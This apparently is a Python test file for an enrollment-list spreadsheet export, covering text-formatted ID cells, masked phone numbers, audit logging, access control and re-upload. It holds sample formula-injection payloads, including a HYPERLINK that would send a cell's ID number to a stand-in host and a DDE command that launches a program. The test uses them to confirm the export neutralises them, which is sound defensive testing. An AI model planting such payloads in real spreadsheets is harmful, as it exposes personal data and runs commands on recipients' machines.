"""A course's enrollment list as staff download it: full ID numbers, text cells, audited, and
a file that, dates filled in, uploads back."""

import io
import json
import zipfile
from datetime import timedelta
from decimal import Decimal

import openpyxl
import pytest
from sqlmodel import select

from app import clock
from app.audit.models import AuditEvent
from app.auth import service as auth
from app.completions.models import Completion
from app.enrollments.models import Enrollment
from tests.factories import make_company, make_completion, make_course, make_enrollment, withdraw

HEADER = [
    "姓名",
    "身份证号",
    "课程代码",
    "结业日期",
    "成绩",
    "手机号",
    "工作单位",
    "报名时间",
    "状态",
]
DONE = clock.today() - timedelta(days=1)
# Texts a spreadsheet would run as formulas, full-width forms included (Chinese input methods).
HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&B2,"点击查看")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "＝HYPERLINK(1)",
    "\t=1+1",
]


def _complete(session, enrollment, course, **result) -> None:
    make_completion(session, enrollment, course, completed_on=DONE, **result)


@pytest.fixture
def course(session, university_a):
    """Three enrolled trainees, the first two with a completion (a score, a grade), and one
    who withdrew."""
    course = make_course(session, university_a, code="SDUT-DIG-01")
    names = ("张三", "李䶮", "欧阳娜娜", "王五")
    people = [make_enrollment(session, course, name=n) for n in names]
    _complete(session, people[0][0], course, score=Decimal("88.5"))
    _complete(session, people[1][0], course, grade="合格")
    withdrawn, _ = people[3]
    withdraw(session, withdrawn)
    session.commit()
    return {"course": course, "ids": [id_number for _, id_number in people]}


def _path(course) -> str:
    return f"/staff/courses/{course.code}/enrollments.xlsx"


def _sheet(response):
    assert response.status_code == 200, response.text
    return openpyxl.load_workbook(io.BytesIO(response.content)).worksheets[0]


def _table(sheet) -> list[list]:
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


def _exports(session) -> list[AuditEvent]:
    return list(session.exec(select(AuditEvent).where(AuditEvent.action == "enrollment.export")))


def test_lists_enrolled_trainees_with_full_id_numbers_as_text(staff_a, course):
    response = staff_a.get(_path(course["course"]))
    assert response.headers["cache-control"] == "private, no-store"
    assert 'filename="SDUT-DIG-01-enrollments.xlsx"' in response.headers["content-disposition"]
    sheet = _sheet(response)
    table = _table(sheet)
    assert table[0] == HEADER
    ids = course["ids"]
    assert [row[:5] for row in table[1:]] == [
        ["张三", ids[0], "SDUT-DIG-01", DONE.isoformat(), "88.5"],
        ["李䶮", ids[1], "SDUT-DIG-01", DONE.isoformat(), "合格"],
        ["欧阳娜娜", ids[2], "SDUT-DIG-01", None, None],
    ]  # 王五 withdrew: not listed
    assert [row[5] for row in table[1:]] == ["138****8000"] * 3  # the mobile stays masked
    assert [row[8] for row in table[1:]] == ["已结业，未发证", "已结业，未发证", "已报名"]
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert all(cell.data_type == "s" and cell.number_format == "@" for cell in cells)


def test_each_download_is_audited_without_personal_data(staff_a, session, course):
    staff_a.get(_path(course["course"]))
    staff_a.get(_path(course["course"]))
    events = _exports(session)
    assert len(events) == 2
    event = events[0]
    assert event.actor == f"user:{staff_a.user.id}"
    assert (event.object_type, event.object_id) == ("course", str(course["course"].id))
    assert json.loads(event.detail) == {"course": "SDUT-DIG-01", "rows": 3, "id_numbers": "full"}
    assert not any(id_number in event.detail for id_number in course["ids"])


def test_only_the_courses_own_staff_get_it(anonymous, admin, staff_a, staff_b, session, course):
    path = _path(course["course"])
    theirs, missing = staff_b.get(path), staff_b.get("/staff/courses/NO-SUCH/enrollments.xlsx")
    assert theirs.status_code == missing.status_code == 404  # as if there were no such course
    login = anonymous.get(path, follow_redirects=False)
    assert login.status_code == 303 and login.headers["location"].startswith("/login?next=")
    assert admin.get(path).status_code == 403
    assert _exports(session) == []


def test_the_course_page_links_to_it(staff_a, course):
    page = staff_a.get(f"/staff/courses/{course['course'].code}")
    assert f'href="{_path(course["course"])}"' in page.text


def test_cells_that_look_like_formulas_stay_text(staff_a, session, course):
    for name in HOSTILE:
        make_enrollment(
            session, course["course"], name="赵六", company=make_company(session, name=name)
        )
    response = staff_a.get(_path(course["course"]))
    sheet = _sheet(response)
    companies = [cell for cell in next(sheet.iter_cols(min_col=7, max_col=7))][4:]
    assert [cell.value for cell in companies] == HOSTILE
    assert all(cell.data_type == "s" and cell.number_format == "@" for cell in companies)
    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet_xml and b"<f " not in sheet_xml  # no formula anywhere


def test_filled_in_it_uploads_back(client, session, staff_a, course):
    response = staff_a.get(_path(course["course"]))
    workbook = openpyxl.load_workbook(io.BytesIO(response.content))
    sheet = workbook.worksheets[0]
    for row in range(2, sheet.max_row + 1):
        sheet.cell(row=row, column=4).value = DONE  # typed by the clerk: an Excel date
    out = io.BytesIO()
    workbook.save(out)
    _, token = auth.create_token(
        session, name="t", role="university", university_id=course["course"].university_id
    )
    session.commit()

    def upload(content: bytes) -> dict:
        answer = client.post(
            "/api/v1/completions",
            headers={"Authorization": f"Bearer {token}"},
            files={"file": ("名单.xlsx", content)},
        )
        assert answer.status_code == 200, answer.text
        return answer.json()

    body = upload(out.getvalue())
    # The score and the grade went out and came back as recorded: those rows are unchanged.
    assert (body["rows"], body["accepted"], body["unchanged"], body["rejected"]) == (3, 1, 2, 0)
    recorded = session.exec(select(Completion).join(Enrollment)).all()
    assert len(recorded) == 3 and {c.completed_on for c in recorded} == {DONE}
    # The next download has every date in it and, sent back as it is, changes nothing.
    again = staff_a.get(_path(course["course"]))
    assert {row[3] for row in _table(_sheet(again))[1:]} == {DONE.isoformat()}
    body = upload(again.content)
    assert (body["rows"], body["unchanged"], body["rejected"]) == (3, 3, 0)
